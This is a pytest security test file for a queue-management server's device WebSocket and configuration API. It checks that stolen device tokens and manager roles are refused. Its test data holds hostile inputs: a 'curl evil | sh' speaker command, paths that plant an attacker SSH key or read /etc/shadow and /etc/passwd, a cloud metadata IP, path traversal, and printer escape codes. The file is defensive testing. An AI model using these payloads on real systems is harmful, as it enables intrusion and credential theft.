"""What a device token may do on ``WS /api/v1/agent``, tried by a hostile client: a real
WebSocket client against a live server, as a stolen display or kiosk token would be used."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect

from drivers.fakes import TestNetworkPrinter
from server.config import Settings
from server.db import Database
from server.models import Device
from tests.support import BranchKit, admin_token, live_server, make_branch

# Generous: a reply that never comes still fails, but a loaded machine is not a failure.
RECV_S = 120


class Site:
    def __init__(self, url: str, kit: BranchKit, admin: str) -> None:
        self.url = url
        self.kit = kit
        self.http = httpx.Client(base_url=url, timeout=120)
        self.admin = {"Authorization": f"Bearer {admin}"}

    def device_id(self, kind: str) -> int:
        devices = self.http.get("/api/v1/admin/devices", headers=self.admin).json()
        return next(d["id"] for d in devices if d["branch"] == self.kit.code and d["kind"] == kind)

    def patch(self, kind: str, body: dict[str, Any], who: dict[str, str] | None = None) -> Any:
        return self.http.patch(
            f"/api/v1/admin/devices/{self.device_id(kind)}", json=body, headers=who or self.admin
        )

    def configure(self, kind: str, config: dict[str, Any]) -> None:
        r = self.patch(kind, {"config": config})
        assert r.status_code == 200, r.text

    @contextmanager
    def agent(self, kind: str) -> Iterator[ClientConnection]:
        """A control socket opened with ``kind``'s token; the hello is read already."""
        with connect(
            self.url.replace("http", "ws") + "/api/v1/agent",
            additional_headers={"Authorization": f"Bearer {self.kit.tokens[kind]}"},
            open_timeout=60,
        ) as ws:
            assert json.loads(ws.recv(timeout=RECV_S))["type"] == "hello"
            yield ws

    def open_counter(self, label: str, teller: str) -> None:
        counter = self.kit.counters[label]
        r = self.http.post(f"/api/v1/counters/{counter}/open", headers=self.kit.auth(teller))
        assert r.status_code == 200, r.text

    def issue(self, service: str = "A") -> dict[str, Any]:
        r = self.http.post(
            f"/api/v1/branches/{self.kit.code}/tickets",
            json={"service": service},
            headers=self.kit.auth("kiosk"),
        )
        assert r.status_code == 201, r.text
        return dict(r.json())

    def ticket(self, ticket_id: int) -> dict[str, Any]:
        r = self.http.get(f"/api/v1/tickets/{ticket_id}", headers=self.admin)
        return dict(r.json()["ticket"])

    def device(self, kind: str) -> dict[str, Any]:
        r = self.http.get(f"/api/v1/admin/devices/{self.device_id(kind)}", headers=self.admin)
        return dict(r.json())

    def alerts(self) -> list[dict[str, Any]]:
        r = self.http.get(f"/api/v1/branches/{self.kit.code}/alerts", headers=self.admin)
        return list(r.json())


class ServerErrors(logging.Handler):
    """Collects what the live server logs at ERROR (an unhandled exception in a socket)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@contextmanager
def watching(handler: ServerErrors) -> Iterator[None]:
    # Attached once the server runs: uvicorn's logging setup replaces its loggers' handlers.
    loggers = [logging.getLogger(name) for name in ("uvicorn.error", "server", "")]
    for logger in loggers:
        logger.addHandler(handler)
    try:
        yield
    finally:
        for logger in loggers:
            logger.removeHandler(handler)


@pytest.fixture
def server_errors() -> ServerErrors:
    return ServerErrors()


@pytest.fixture
def site(app: FastAPI, make: Any, server_errors: ServerErrors) -> Iterator[Site]:
    kit = make(make_branch)
    admin = make(admin_token)
    with live_server(app) as url, watching(server_errors):
        s = Site(url, kit, admin)
        yield s
        s.http.close()
    assert [r.getMessage() for r in server_errors.records] == []


def send(ws: ClientConnection, message: dict[str, Any]) -> dict[str, Any]:
    """Send one message and return the next answer that is not a print job."""
    ws.send(json.dumps(message))
    while True:
        reply = json.loads(ws.recv(timeout=RECV_S))
        if reply.get("type") != "print":
            return dict(reply)


def status_then_ping(ws: ClientConnection, status: dict[str, Any]) -> list[dict[str, Any]]:
    """Report ``status``, then wait for the answer to an unknown message (so the report was
    handled); returns what the server answered to the report."""
    ws.send(json.dumps({"type": "status", "status": status}))
    ws.send(json.dumps({"type": "ping?"}))
    replies = []
    while True:
        reply = json.loads(ws.recv(timeout=RECV_S))
        if "ping?" in str(reply.get("detail")):
            return replies
        replies.append(reply)


# --- 1. only a counter agent's keypad calls, and only at its own counters ----------------


@pytest.mark.parametrize("kind", ["display", "kiosk", "speaker"])
def test_a_screen_or_kiosk_token_cannot_call_tickets(site: Site, kind: str) -> None:
    site.open_counter("1", "teller1")
    ticket = site.issue("A")
    with site.agent(kind) as ws:
        for key in ("next", "recall"):
            reply = send(ws, {"type": "key", "counter": "1", "key": key})
            assert reply["type"] == "key_result"
            assert "keypad" in reply["error"]
            assert "ticket" not in reply
    assert site.ticket(ticket["id"])["status"] == "waiting"


def test_an_agent_calls_only_at_the_counters_its_keypads_are_at(site: Site) -> None:
    site.configure("agent", {"keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}]})
    site.open_counter("1", "teller1")
    site.open_counter("2", "teller2")
    first = site.issue("A")
    with site.agent("agent") as ws:
        refused = send(ws, {"type": "key", "counter": "2", "key": "next"})
        assert refused["type"] == "key_result"
        assert "counter 2" in refused["error"]
        assert site.ticket(first["id"])["status"] == "waiting"

        called = send(ws, {"type": "key", "counter": "1", "key": "next"})
        assert called["ticket"]["id"] == first["id"]
        assert "error" not in called
    assert site.ticket(first["id"])["counter"]["label"] == "1"


def test_an_agent_without_keypads_calls_nowhere(site: Site) -> None:
    site.open_counter("1", "teller1")
    ticket = site.issue("A")
    with site.agent("agent") as ws:
        reply = send(ws, {"type": "key", "counter": "1", "key": "next"})
        assert "counter 1" in reply["error"]
    assert site.ticket(ticket["id"])["status"] == "waiting"


def test_a_display_cannot_report_a_printer_out_of_paper(site: Site) -> None:
    site.configure("display", {})
    with site.agent("display") as ws:
        status = {
            "printer": {"state": "paper_out", "detail": "fake"},
            "speaker": {"state": "error", "detail": "fake"},
            "display:1": {"state": "error", "detail": "fake"},
        }
        [reply] = status_then_ping(ws, status)
        assert reply["type"] == "error"
        assert "printer" in reply["detail"]
    stored = site.device("display")["status"]
    assert set(stored) == {"agent"}
    assert site.alerts() == []


def test_a_device_reports_the_status_of_the_hardware_it_has(site: Site) -> None:
    site.configure(
        "agent",
        {
            "counter_displays": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}],
            "keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}],
        },
    )
    with site.agent("agent") as ws:
        ok = {"state": "online", "detail": ""}
        status_then_ping(
            ws,
            {
                "display:1": ok,
                "keypad:1": ok,
                "display:2": ok,
                "printer": {"state": "paper_out", "detail": ""},
                "agent": {"state": "offline", "detail": "forged"},
            },
        )
    stored = site.device("agent")["status"]
    assert set(stored) == {"agent", "display:1", "keypad:1"}
    assert site.alerts() == []


# --- 2. where a device configuration may point -----------------------------------------


def store_config(db: Database, device_id: int, config: dict[str, Any]) -> None:
    """A configuration as stored before this release's checks (straight into the row)."""
    with db.unit_of_work() as session:
        device = session.get(Device, device_id)
        assert device is not None
        device.config = config
        session.add(device)


@pytest.fixture
def spool(settings: Settings) -> Path:
    """The printer file directory, made as the administrator would."""
    path = settings.data_dir / "printers"
    path.mkdir(parents=True, exist_ok=True)
    return path


def file_printer(path: str, **more: Any) -> dict[str, Any]:
    return {"printer": {"transport": "file", "path": path, **more}}


@pytest.mark.parametrize(
    "config",
    [
        file_printer("~/.ssh/authorized_keys", footer="ssh-ed25519 AAAA attacker"),
        {"printer": {"transport": "serial", "device": "/dev/ttyUSB0"}},
        {"printer": {"transport": "usb", "vendor_id": "0x04b8", "product_id": "0x0202"}},
        {"printer": {"transport": "network", "host": "10.0.0.40", "logo_path": "/etc/shadow"}},
        {"keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}]},
        {"speaker": {"enabled": True, "command": ["sh", "-c", "curl evil | sh"]}},
    ],
)
def test_a_manager_cannot_point_hardware_into_the_server(
    site: Site, config: dict[str, Any], tmp_path: Path
) -> None:
    manager = site.kit.auth("manager")
    r = site.patch("kiosk", {"config": config}, who=manager)
    assert r.status_code == 403, r.text
    assert "only an administrator" in r.json()["detail"]
    assert site.device("kiosk")["config"] == {}
    created = site.http.post(
        "/api/v1/admin/devices",
        json={"branch": site.kit.code, "kind": "kiosk", "name": "k2", "config": config},
        headers=manager,
    )
    assert created.status_code == 403, created.text


def test_a_manager_sets_up_a_network_printer_and_keeps_the_admins_one(site: Site) -> None:
    manager = site.kit.auth("manager")
    lan = {"printer": {"transport": "network", "host": "10.0.0.40", "footer": "Welcome"}}
    r = site.patch("kiosk", {"config": lan, "name": "Entrance"}, who=manager)
    assert r.status_code == 200, r.text
    # The administrator's serial printer: the manager may change its footer, not its port.
    serial = {"printer": {"transport": "serial", "device": "/dev/ttyUSB0", "footer": "Hi"}}
    site.configure("kiosk", serial)
    footer = {"printer": {**serial["printer"], "footer": "Hello"}}
    assert site.patch("kiosk", {"config": footer}, who=manager).status_code == 200
    moved = {"printer": {**serial["printer"], "device": "/dev/ttyUSB1"}}
    assert site.patch("kiosk", {"config": moved}, who=manager).status_code == 403
    assert site.patch("kiosk", {"name": "Entrance 2"}, who=manager).status_code == 200


@pytest.mark.parametrize(
    ("printer", "field"),
    [
        ({"transport": "network", "host": "8.8.8.8"}, "printer.host"),
        ({"transport": "network", "host": "169.254.169.254", "port": 80}, "printer.host"),
        ({"transport": "network", "host": "::ffff:8.8.4.4"}, "printer.host"),
        ({"transport": "file", "path": "/etc/cron.d/sira"}, "printer.path"),
        ({"transport": "file", "path": "../../escape"}, "printer.path"),
        ({"transport": "file", "path": "~/.ssh/authorized_keys"}, "printer.path"),
        ({"transport": "serial", "device": "/dev/sda"}, "printer.device"),
        ({"transport": "serial", "device": "/dev/ttyUSB0/../sda"}, "printer.device"),
        ({"transport": "serial", "device": "socket://203.0.113.9:9100"}, "printer.device"),
        ({"transport": "dummy", "logo_path": "/etc/passwd"}, "printer.logo_path"),
    ],
)
def test_hardware_outside_the_installations_limits_is_refused(
    site: Site, printer: dict[str, Any], field: str
) -> None:
    r = site.patch("kiosk", {"config": {"printer": printer}})
    assert r.status_code == 422, r.text
    assert f"config.{field}:" in r.json()["detail"]
    assert site.device("kiosk")["config"] == {}


def test_a_symlink_out_of_the_printer_directory_is_refused(
    site: Site, spool: Path, tmp_path: Path
) -> None:
    target = tmp_path / "outside.txt"
    (spool / "link").symlink_to(target)
    r = site.patch("kiosk", {"config": file_printer("link")})
    assert r.status_code == 422, r.text
    assert "must be inside" in r.json()["detail"]


def test_a_file_printer_writes_inside_its_directory_with_the_footer_as_text(
    site: Site, spool: Path
) -> None:
    # ESC p: kick the cash drawer; GS V: cut. Text in a footer must not be commands.
    footer = "Thank you\x1bp\x00\x19\xfa\nGoodbye\x1dV\x00"
    r = site.patch("kiosk", {"config": file_printer("kiosk.bin", footer=footer)})
    assert r.status_code == 200, r.text
    assert r.json()["config"]["printer"]["footer"] == "Thank youp\xfa\nGoodbyeV"
    issued = site.issue()
    assert issued["print_status"] == "printed"
    written = (spool / "kiosk.bin").read_bytes()
    assert issued["code"].encode() in written
    assert b"Goodbye" in written
    assert b"\x1bp\x00" not in written


def test_a_stored_configuration_cannot_bypass_the_limits(
    site: Site, db: Database, tmp_path: Path, spool: Path
) -> None:
    kiosk = site.device_id("kiosk")
    outside = tmp_path / "authorized_keys"
    store_config(db, kiosk, file_printer(str(outside), footer="ssh-ed25519 AAAA attacker"))
    issued = site.issue()
    assert issued["print_status"] == "failed"
    assert not outside.exists()

    # Stored footer control characters never reach the printer either.
    store_config(db, kiosk, file_printer("k.bin", footer="a\x1bp\x00\x19b"))
    assert site.issue()["print_status"] == "printed"
    assert b"\x1bp" not in (spool / "k.bin").read_bytes()


def test_an_agent_is_not_sent_hardware_outside_the_limits(site: Site, db: Database) -> None:
    config = {
        "printer": {"transport": "file", "path": "/etc/passwd"},
        "print_via": "agent",
        "keypads": [
            {"port": "socket://203.0.113.9:80", "address": 1, "counter": "1"},
            {"port": "/dev/ttyUSB0", "address": 2, "counter": "2"},
        ],
    }
    store_config(db, site.device_id("agent"), config)
    with connect(
        site.url.replace("http", "ws") + "/api/v1/agent",
        additional_headers={"Authorization": f"Bearer {site.kit.tokens['agent']}"},
    ) as ws:
        hello = json.loads(ws.recv(timeout=RECV_S))
    sent = hello["device"]["config"]
    assert "printer" not in sent
    assert [k["counter"] for k in sent["keypads"]] == ["2"]
    status = site.device("agent")["status"]
    assert status["printer"]["state"] == "error"
    assert "not allowed" in status["keypad:1"]["detail"]


def test_a_network_printer_outside_the_allowed_networks_is_not_connected_to(
    site: Site, db: Database, settings: Settings
) -> None:
    with TestNetworkPrinter() as printer:
        config = {"printer": {"transport": "network", "host": printer.host, "port": printer.port}}
        site.configure("kiosk", config)
        assert site.issue()["print_status"] == "printed"
        printer.wait_for_receipts(1)

        settings.printer_hosts = ["10.0.0.0/8"]  # this host's printer is no longer allowed
        store_config(
            db, site.device_id("kiosk"), {"printer": {**config["printer"], "timeout_s": 2}}
        )
        assert site.issue()["print_status"] == "failed"
        r = site.patch("kiosk", {"config": config})
        assert r.status_code == 422
        assert "outside the networks" in r.json()["detail"]
        assert len(printer.receipts) == 1


# --- 3. a typed, bounded configuration and status --------------------------------------


@pytest.mark.parametrize(
    ("config", "mentions"),
    [
        # Within the request body limit (past it the edge answers 413 before any parsing).
        ({"footer": "x" * 20_000}, "config: the configuration is 20014 bytes"),
        ({"footer": "x" * 2000}, "config.footer"),
        ({"junk": "x" * 1000}, "config.junk"),
        (
            {"keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}] * 400},
            "at most 16384",
        ),
        ({"keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}] * 40}, "keypads"),
        ({"speaker": {"enabled": True, "volume": 11}}, "config.speaker.volume"),
        ({"print_via": "carrier-pigeon"}, "config.print_via"),
        ({"counter_displays": [{"port": "/dev/ttyUSB0", "address": 1}]}, "counter_displays"),
        ({"printer": {"transport": "dummy", "footer": "y" * 5000}}, "footer"),
    ],
)
def test_an_oversized_or_unknown_configuration_is_refused(
    site: Site, config: dict[str, Any], mentions: str
) -> None:
    r = site.patch("kiosk", {"config": config})
    assert r.status_code == 422, r.text[:300]
    assert mentions in r.json()["detail"]
    assert len(r.text) < 5000  # a readable message, not the input echoed back
    assert site.device("kiosk")["config"] == {}


def test_the_configuration_is_stored_as_given(site: Site) -> None:
    config = {
        "printer": {"transport": "network", "host": "10.0.0.40", "profile": "TM-T20II"},
        "print_via": "agent",
        "footer": "Thank you",
        "counter_displays": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}],
        "keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}],
        "speaker": {"enabled": False},
    }
    site.configure("agent", config)
    assert site.device("agent")["config"] == config


def test_an_oversized_status_report_is_refused(site: Site) -> None:
    site.configure(
        "kiosk", {"printer": {"transport": "network", "host": "10.0.0.40"}, "print_via": "agent"}
    )
    with site.agent("kiosk") as ws:
        huge = {"printer": {"state": "paper_out", "detail": "x" * 50_000}}
        [reply] = status_then_ping(ws, huge)
        assert reply["type"] == "error"
        assert "status" in reply["detail"]
        many = {"printer": {f"k{i}": "v" for i in range(1000)}}
        [reply] = status_then_ping(ws, many)
        assert reply["type"] == "error"
    assert "printer" not in site.device("kiosk")["status"]
    assert site.alerts() == []


# --- 4. a robust control socket, authenticated by header only --------------------------


def closed_with(ws: ClientConnection) -> tuple[int, str]:
    """Read until the server closes the socket; its close code and reason."""
    try:
        while True:
            ws.recv(timeout=RECV_S)
    except ConnectionClosed:
        pass
    assert ws.close_code is not None
    return ws.close_code, ws.close_reason or ""


def test_a_binary_frame_closes_the_socket_cleanly(site: Site) -> None:
    with site.agent("kiosk") as ws:
        ws.send(b"\x00\x01 not json")
        code, reason = closed_with(ws)
    assert code == 1003
    assert "text" in reason


def test_an_oversized_message_closes_the_socket_cleanly(site: Site) -> None:
    with site.agent("kiosk") as ws:
        ws.send(json.dumps({"type": "status", "status": {"printer": {"detail": "x" * 2_000_000}}}))
        code, reason = closed_with(ws)
    assert code == 1009
    assert "bytes" in reason


@pytest.mark.parametrize(
    "text",
    [
        "[" * 30_000 + "]" * 30_000,
        '{"type": "status", "status": ' + '{"a": ' * 9_000 + "1" + "}" * 9_001,
        json.dumps({"type": "ack", "job_id": 2**70, "ok": True}),
        json.dumps({"type": "ack", "job_id": -1, "ok": True}),
        '{"type": "key", "counter": "1", "key": "next", "x": ' + "9" * 5000 + "}",
        "not json",
        "null",
    ],
)
def test_malformed_messages_get_an_error_answer(site: Site, text: str) -> None:
    with site.agent("kiosk") as ws:
        ws.send(text)
        reply = json.loads(ws.recv(timeout=RECV_S))
        assert reply["type"] in ("error", "key_result")
        # The socket still serves.
        assert "ping?" in send(ws, {"type": "ping?"})["detail"]


def test_a_token_in_the_url_is_refused(site: Site) -> None:
    token = site.kit.tokens["kiosk"]
    url = site.url.replace("http", "ws") + f"/api/v1/agent?token={token}"
    with connect(url, open_timeout=60) as ws:
        code, reason = closed_with(ws)
    assert code == 1008
    assert "Authorization: Bearer" in reason


def test_a_revoked_token_is_closed_on_its_next_message(site: Site) -> None:
    with site.agent("kiosk") as ws:
        r = site.http.delete(f"/api/v1/admin/devices/{site.device_id('kiosk')}", headers=site.admin)
        assert r.status_code == 204
        ws.send(json.dumps({"type": "status", "status": {}}))
        code, reason = closed_with(ws)
    assert code == 4401
    assert "revoked" in reason


def test_a_revoked_token_is_closed_even_when_the_agent_is_silent(site: Site) -> None:
    with site.agent("agent") as ws:
        r = site.http.delete(f"/api/v1/admin/devices/{site.device_id('agent')}", headers=site.admin)
        assert r.status_code == 204
        code, reason = closed_with(ws)  # the job poll notices within POLL_S
    assert code == 4401
    assert "revoked" in reason
